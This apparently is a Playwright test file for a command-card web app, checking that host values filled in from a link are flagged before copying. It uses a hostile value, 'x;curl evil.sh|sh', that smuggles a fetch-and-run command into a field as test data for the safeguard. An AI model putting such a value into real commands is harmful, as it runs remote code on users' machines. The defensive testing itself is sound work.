import assert from 'node:assert/strict'
import { after, describe, test } from 'node:test'
import type { Page } from 'playwright-core'
import { clipboardText } from '../../support/browser/clipboard-text.ts'
import { createCardCommand } from '../../support/browser/command.ts'
import { eventually } from '../../support/browser/eventually.ts'
import { startSite } from '../../support/browser/site-under-test.ts'
import { closeBrowser, createVisitor } from '../../support/browser/visitor.ts'
import { cardsOn, copyFrom, descriptionOf, openCard, READING_MS } from './card-parts.ts'

const site = await startSite([
  createCardCommand({ id: 'dump', notes: 'Copy a database', line: 'pg_dump -h {{host}} -p {{port=5432}}' }),
  createCardCommand({ id: 'ping', notes: 'Ask whether it is there', line: 'ping {{host}}' }),
])
const DUMP = `${site.url}/projects/commander/commands/dump`

const HOSTILE = 'x;curl evil.sh|sh #х'
const HOSTILE_LINK = `${DUMP}#host=${encodeURIComponent(HOSTILE)}`

after(closeBrowser)
after(site.close)

describe('copying code that a link filled in', () => {
  test('shows the code first, and copies on the second press', async () => {
    const { page, leave } = await createVisitor()
    const { copyButton, line } = await openCard(page, HOSTILE_LINK)
    await eventually(() => line.textContent(), `pg_dump -h ${HOSTILE} -p 5432`)
    await keepOnClipboard(page, 'mine')

    await copyButton.dblclick()
    const warning = cardsOn(page).getByRole('alert')
    assert.match(
      (await warning.textContent()) ?? '',
      /The link filled in “;”, a space, “\|”, “#”, and “х” \(U\+0445\)\./,
    )
    assert.equal(await warning.getByRole('definition').textContent(), HOSTILE)
    assert.match((await descriptionOf(cardsOn(page))).join(' | '), /The link filled in/)
    await page.waitForTimeout(READING_MS)

    assert.equal(await clipboardText(page), 'mine')
    assert.equal(await copyFrom(page, cardsOn(page)), `pg_dump -h ${HOSTILE} -p 5432`)
    await leave()
  })

  for (const place of ['Copy button', 'field']) {
    test(`counts a held Enter key as one press: ${place}`, async () => {
      const { page, leave } = await createVisitor()
      const { copyButton, field, line } = await openCard(page, HOSTILE_LINK)
      await eventually(() => line.textContent(), `pg_dump -h ${HOSTILE} -p 5432`)
      await keepOnClipboard(page, 'mine')

      await (place === 'field' ? field('host from the link') : copyButton).focus()
      await page.keyboard.down('Enter')
      await cardsOn(page).getByRole('alert').waitFor()
      await page.waitForTimeout(READING_MS)
      await page.keyboard.down('Enter')

      await page.waitForTimeout(100)
      assert.equal(await clipboardText(page), 'mine')
      await leave()
    })
  }
})

describe('copying other values', () => {
  test('needs no second press if plain or typed over', async () => {
    const { page, leave } = await createVisitor()
    const { field, line } = await openCard(page, `${DUMP}#host=me@db-1.example.org:22/a_b,c=d`)
    await eventually(() => line.textContent(), 'pg_dump -h me@db-1.example.org:22/a_b,c=d -p 5432')
    await copyFrom(page, cardsOn(page))

    await page.evaluate((link) => location.assign(link), HOSTILE_LINK)
    await field('host from the link').fill('$(hostname)')
    await eventually(() => copyFrom(page, cardsOn(page)), 'pg_dump -h $(hostname) -p 5432')
    await leave()
  })

  test('needs a second press if edited or on another card', async () => {
    const { page, leave } = await createVisitor()
    const { field, copyButton } = await openCard(page, HOSTILE_LINK)
    await field('host from the link').press('End')
    await page.keyboard.type('mine')
    await copyButton.click()
    await cardsOn(page).getByRole('alert').waitFor()

    await page.getByRole('link', { name: 'Commander' }).last().click()
    const ping = page.getByRole('listitem').filter({ hasText: 'Ask whether it is there' })
    await ping.getByRole('button', { name: 'Copy', exact: true }).click()
    await ping.getByRole('alert').waitFor()
    await leave()
  })
})

async function keepOnClipboard(page: Page, text: string): Promise<void> {
  await page.evaluate((kept) => navigator.clipboard.writeText(kept), text)
}
